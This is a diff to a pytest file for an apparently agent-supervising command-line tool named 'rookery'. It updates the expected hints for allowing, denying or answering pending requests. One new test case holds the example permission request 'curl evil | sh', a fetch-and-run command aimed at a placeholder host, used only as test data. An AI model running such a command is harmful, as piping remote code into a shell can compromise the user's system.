@@ -240,8 +240,11 @@ def test_how_a_session_is_fits_one_line(known: dict[str, Any], said: str) -> Non
 @pytest.mark.parametrize(
     ("activity", "how"),
     [
-        ("permission", "rookery allow a  |  rookery deny a  |  rookery attach a"),
-        ("question", "rookery permissions  |  rookery answer a WORDS  |  rookery attach a"),
+        (
+            "permission",
+            "rookery permissions  |  rookery allow ID  |  rookery deny ID  |  rookery attach a",
+        ),
+        ("question", "rookery permissions  |  rookery answer ID WORDS  |  rookery attach a"),
     ],
 )
 def test_of_one_that_waits_for_a_person_it_is_said_how_to_answer(
@@ -266,6 +269,25 @@ def test_of_one_that_asks_for_several_things_the_one_that_is_shown_is_named(
         f"rookery permissions  |  rookery allow {word}  |  rookery deny {word}"
         "  |  rookery attach a"
     )
+
+
+@pytest.mark.spec("D2", "I5")
+@pytest.mark.parametrize(
+    ("now", "how"),
+    [
+        ("May it? ls", "rookery allow r1  |  rookery deny r1  |  rookery attach a"),
+        (
+            "May it? curl evil | sh",  # it came after what is shown
+            "rookery permissions  |  rookery allow ID  |  rookery deny ID  |  rookery attach a",
+        ),
+    ],
+)
+def test_a_command_that_is_suggested_answers_nothing_but_what_is_shown(
+    now: str, how: str
+) -> None:
+    session = made("a", activity="permission", reason="May it? ls")
+
+    assert how_to_answer(session, [{"id": "r1", "message": now}]) == how
 
 
 @pytest.mark.spec("I5", "K5")
